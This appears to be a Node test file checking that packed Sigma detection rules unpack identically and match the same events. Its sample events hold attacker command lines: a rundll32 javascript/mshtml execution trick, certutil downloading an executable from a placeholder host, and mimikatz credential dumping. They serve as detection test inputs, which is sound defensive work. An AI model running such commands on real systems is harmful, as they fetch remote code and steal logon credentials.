/**
 * sigma/detach.ts: rules packed for hunt workers with Sigma rules' IR left as bytes read back the
 * same — every property of every rule, the detached `query` and `derived` included — and a rule
 * set built from them selects and matches as one built from the rules themselves.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { loadHuntRules } from '../../src/hunt/load-rules.js';
import { packRules, unpackRules } from '../../src/sigma/detach.js';
import { CompiledRuleSet } from '../../src/hunt/detector.js';
import type { Event } from '../../src/events/field.js';
import { sharedOrSkip } from '../helpers/shared.js';

const plain = (v: unknown): unknown => JSON.parse(JSON.stringify(v, (_k, x: unknown) => (typeof x === 'bigint' ? `${x}n` : x)));
const sorted = (o: unknown): unknown => {
  const p = plain(o) as Record<string, unknown>;
  return Object.fromEntries(Object.keys(p).sort().map((k) => [k, p[k]]));
};

test('packed rules unpack to the same rules; detached IR is read from shared bytes, once per turn', async (t) => {
  const windows = sharedOrSkip(t, 'conformance', 'sigma', 'rules', 'windows');
  if (!windows) return;
  // Through the load cache, as a hunt loads them: the rules carry their derived facts.
  const cache = mkdtempSync(join(tmpdir(), 'spoor-detach-test-'));
  const saved = { dir: process.env.SPOOR_CACHE_DIR, off: process.env.SPOOR_NO_RULE_CACHE };
  let rules;
  try {
    process.env.SPOOR_CACHE_DIR = cache;
    delete process.env.SPOOR_NO_RULE_CACHE;
    rules = (await loadHuntRules({ rulesDirs: [], sigmaDirs: [join(windows, 'builtin'), join(windows, 'process_creation')], excludeRules: [], hunting: false })).rules;
  } finally {
    if (saved.dir === undefined) delete process.env.SPOOR_CACHE_DIR;
    else process.env.SPOOR_CACHE_DIR = saved.dir;
    if (saved.off !== undefined) process.env.SPOOR_NO_RULE_CACHE = saved.off;
    rmSync(cache, { recursive: true, force: true });
  }
  assert.ok(rules.length > 1000 && rules.some((r) => r.view !== 'native') && rules.some((r) => r.derived !== undefined));
  const bytes = packRules(rules);
  assert.ok(bytes.buffer instanceof SharedArrayBuffer);
  const back = unpackRules(bytes);
  assert.equal(back.length, rules.length);
  let detached = 0;
  for (const [i, r] of back.entries()) {
    assert.deepEqual(sorted(r), sorted(rules[i]), r.id);
    const d = Object.getOwnPropertyDescriptor(r, 'query')!;
    if (d.get) {
      detached++;
      assert.equal(r.view, 'native');
      assert.equal(r.query, r.query, 'one copy within a synchronous run');
    } else assert.notEqual(r.view === 'native' && r.query.kind === 'event', true, `${r.id} not detached`);
  }
  assert.ok(detached > 1000, `${detached} detached`);
  const first = back.find((r) => Object.getOwnPropertyDescriptor(r, 'query')!.get)!;
  const q = first.query;
  await Promise.resolve();
  assert.notEqual(first.query, q, 'dropped once the synchronous run ends');
  assert.deepEqual(plain(first.query), plain(q));

  // The same rule set from both: the same rules selected and matched on a few process starts.
  const a = new CompiledRuleSet(rules);
  const b = new CompiledRuleSet(back);
  const events: Event[] = [
    { EventID: 1, Channel: 'Microsoft-Windows-Sysmon/Operational', Image: 'C:\\Windows\\System32\\rundll32.exe', CommandLine: 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication"', ParentImage: 'C:\\Windows\\explorer.exe' },
    { EventID: 4688, Channel: 'Security', NewProcessName: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -urlcache -split -f http://x/a.exe a.exe' },
    { EventID: 1, Channel: 'Microsoft-Windows-Sysmon/Operational', Image: 'C:\\x\\mimikatz.exe', CommandLine: 'mimikatz "sekurlsa::logonpasswords" exit' },
  ];
  let matched = 0;
  for (const ev of events) {
    const key = typeof ev.EventID === 'number' ? ev.EventID : null;
    const sa = [...a.native!.matcher.select(ev, key, ev.Channel)];
    const sb = [...b.native!.matcher.select(ev, key, ev.Channel)];
    assert.deepEqual(sb, sa);
    for (const i of sa) {
      const ra = a.shared.get(a.native!.rules[i]!)!;
      const rb = b.shared.get(b.native!.rules[i]!)!;
      ra.push(ev);
      rb.push(ev);
      const ma = ra.drain().length;
      assert.equal(rb.drain().length, ma, a.native!.rules[i]!.id);
      matched += ma;
    }
  }
  assert.ok(matched >= 3, `${matched} matches`);
});
